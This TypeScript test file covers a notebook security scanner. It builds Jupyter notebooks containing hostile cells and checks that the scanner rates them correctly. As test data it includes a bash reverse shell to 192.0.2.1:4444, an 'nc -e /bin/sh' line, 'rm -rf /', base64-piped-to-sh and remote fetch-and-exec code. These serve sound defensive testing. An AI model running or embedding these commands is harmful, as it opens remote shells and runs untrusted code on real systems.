import assert from 'node:assert/strict';
import { test } from 'node:test';
import { artefactOf, reportOf } from '../../../../test/corpus/model-scanner/read-artefact.ts';
import { notebookSource } from './notebook-cells.ts';

type Cell = {
  readonly source: string | readonly string[];
  readonly outputs?: readonly unknown[];
  readonly kind?: string;
  readonly metadata?: object;
};

const notebook = (cells: readonly Cell[], metadata: object = { kernelspec: { name: 'python3' } }) =>
  new Uint8Array(
    Buffer.from(
      JSON.stringify(
        {
          nbformat: 4,
          nbformat_minor: 5,
          metadata,
          cells: cells.map(({ source, outputs = [], kind = 'code', metadata: own = {} }) => ({
            cell_type: kind,
            source,
            outputs,
            metadata: own,
          })),
        },
        null,
        1,
      ),
    ),
  );
const report = (cells: readonly Cell[], metadata?: object) => reportOf(notebook(cells, metadata), 'work.ipynb');
const lines = (...text: string[]) => text.map((line) => `${line}\n`);

test('an ordinary notebook stays clean, with its magics, help and pictures', () => {
  const { verdict, findings, unread } = report([
    { kind: 'markdown', source: '# os.system("rm -rf /")' },
    {
      source: lines(
        '%matplotlib inline',
        '%load_ext autoreload',
        'import pandas as pd',
        '!pip install pandas',
        '!nvidia-smi',
        'files = !ls',
        'pd.read_csv?',
      ),
    },
    {
      source: lines('%%time', 'frame = pd.DataFrame()', 'frame.head()'),
      outputs: [{ data: { 'text/html': ['<table></table>'], 'image/png': 'iVBOR' } }],
    },
    { source: lines('%%writefile train.py', 'import os', 'os.system("rm -rf /")') },
    { source: lines('%%html', '<b>x</b>') },
    { source: lines('!wget https://files.example/data.zip \\', '  -O data.zip', '!unzip -q data.zip') },
  ]);
  assert.deepEqual([verdict, findings.filter(({ severity }) => severity !== 'informational'), unread], ['clean', [], []]);
});

test('packages that a cell installs from where others may answer are told; ordinary installs are not', () => {
  const findings = (source: string) =>
    report([{ source }]).findings.flatMap(({ ruleId, severity, evidence }) =>
      ruleId === 'package-source' ? [`${severity} ${evidence}`] : [],
    );
  for (const source of [
    '%pip install git+http://files.example/acme.git',
    '!pip install --index-url http://index.example/simple acme',
    '!pip install -q \\\n  --trusted-host index.example acme',
    '%pip install acme --extra-index-url=https://index.example/simple',
    '!{sys.executable} -m pip install -i http://index.example/simple acme',
    '%conda install -c http://channel.example/main acme',
    '%%bash\nset -e\nuv pip install http://files.example/acme-1.0.whl',
    "get_ipython().run_line_magic('pip', 'install --trusted-host index.example acme')",
    "get_ipython().run_cell_magic('bash', '', 'pip install -i http://index.example/simple acme')",
    '!npm install --registry http://registry.example acme',
  ])
    assert.deepEqual(
      findings(source).map((told) => told.split(' ')[0]),
      ['medium'],
      source,
    );
  for (const source of [
    '%pip install -q -U "torch>=2" git+https://github.com/acme/acme.git@main',
    '!pip install torch --index-url https://download.pytorch.org/whl/cu121',
    '!pip install acme -i http://localhost:8080/simple',
    '%uv pip install numpy\n%conda install -c conda-forge numpy\n!pip install -r requirements.txt -c constraints.txt',
  ])
    assert.deepEqual(findings(source), [], source);
});

test('files that a cell writes are read where another cell runs them, and shells behind other magics', () => {
  const shell = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1';
  const hostile: readonly (readonly [string, ...string[]])[] = [
    [`%%writefile go.sh\n${shell}`, '!bash go.sh'],
    [`%%writefile ./go.sh\n${shell}`, '!chmod +x go.sh && ./go.sh'],
    [`%%writefile train.py\nimport os\nos.system('${shell}')`, '%run train.py'],
    [`%%file train.py\nimport os\nos.system('${shell}')`, '!python -u train.py --epochs 3'],
    [`%%script --no-raise-error bash\n${shell}`],
    [`%%script python3\nimport os\nos.system('${shell}')`],
    [`%%capture\n%%bash\n${shell}`],
    [`%%!\n${shell}`],
    [`%%ruby\n\`${shell}\``],
    [`%%perl\nsystem("${shell}");`],
    [`get_ipython().run_cell_magic('bash', '', '${shell}')`],
    [`get_ipython().run_line_magic('system', '${shell}')`],
    [`get_ipython().run_cell("import os\\nos.system('${shell}')")`],
  ];
  for (const cells of hostile) assert.equal(report(cells.map((source) => ({ source }))).verdict, 'malicious', cells[0]);
  assert.equal(report([{ source: `%%writefile go.sh\n${shell}` }, { source: '!bash other.sh' }]).verdict, 'clean');
});

test('what a cell does is found, with cell and line, however it is written', () => {
  const shell = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1';
  for (const source of [
    `!${shell}`,
    `%%bash\n${shell}`,
    `import os\nos.system('${shell}')`,
    `%system ${shell}`,
    `x = !${shell}`,
    `get_ipython().system('${shell}')`,
    '!echo bWFya2Vy | \\\n  base64 -d | sh',
    "import requests\nexec(requests.get('https://files.example/x').text)",
  ])
    assert.equal(report([{ source }]).verdict, 'malicious', source);
  const [finding] = report([{ kind: 'markdown', source: 'x' }, { source: lines('x = 1', `!${shell}`) }]).findings;
  assert.match(finding?.why ?? '', /In cell 2, line 2\./);
  assert.ok((finding?.where.offset ?? 0) > 0 && (finding?.where.line ?? 0) > 1);
});

test('cells are one program: a name of the first is known in the second', () => {
  assert.equal(
    report([{ source: 'import base64 as b\ncode = b.b64decode' }, { source: "exec(code('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2VjaG8nKQ=='))" }])
      .verdict,
    'malicious',
  );
});

test('a script fetched and run by a cell is somebody’s decision', () => {
  assert.equal(report([{ source: '!curl -fsSL https://files.example/install.sh | sh' }]).verdict, 'risky');
});

test('outputs that run code in the kernel are suspicious, plain scripts are noted, trusted ones are risky', () => {
  const output = (html: string) => [{ source: 'x', outputs: [{ output_type: 'display_data', data: { 'text/html': [html] } }] }];
  assert.equal(report(output('<script>Jupyter.notebook.kernel.execute("import os")</script>')).verdict, 'suspicious');
  assert.equal(report(output('<script src="https://cdn.example/plot.js"></script>')).verdict, 'clean');
  assert.equal(report(output('<script>1</script>'), { trusted: true, kernelspec: { name: 'python3' } }).verdict, 'risky');
});

test('loader calls in cells are told', () => {
  const { verdict, findings } = report([
    { source: "from transformers import AutoModel\nm = AutoModel.from_pretrained('acme/model', trust_remote_code=True)" },
  ]);
  assert.equal(verdict, 'risky');
  assert.ok(findings.some(({ ruleId }) => ruleId === 'python-loader-call'));
});

test('a notebook of another language is not called clean', () => {
  assert.equal(report([{ source: 'system("id")' }], { kernelspec: { name: 'ir' }, language_info: { name: 'R' } }).verdict, 'incomplete');
});

test('version 3 keeps its cells in worksheets', () => {
  const old = new Uint8Array(
    Buffer.from(
      JSON.stringify({
        nbformat: 3,
        worksheets: [{ cells: [{ cell_type: 'code', input: ['import os\n', "os.system('nc -e /bin/sh 192.0.2.1 1')"] }] }],
      }),
    ),
  );
  assert.equal(reportOf(old, 'old.ipynb').verdict, 'malicious');
});

test('every line of a cell keeps its number', () => {
  const { text, placeOf } = notebookSource([{ path: ['cells', 0, 'source'], number: 1, source: '!a \\\n b\nx = 1' }]);
  assert.equal(text.split('\n').length, 3);
  assert.equal(placeOf(text.indexOf('x = 1'))?.line, 3);
});

test('cut and changed notebooks never throw', () => {
  const whole = notebook([{ source: lines('!ls', '%%bash', 'x = "') }, { source: ['a', 1, null] as unknown as string[] }]);
  for (let at = 0; at < whole.length; at += 7) {
    assert.doesNotThrow(() => artefactOf(whole.subarray(0, at), 'work.ipynb'));
    const changed = whole.slice();
    changed[at] = (changed[at] ?? 0) ^ 0x15;
    assert.doesNotThrow(() => artefactOf(changed, 'work.ipynb'));
  }
});
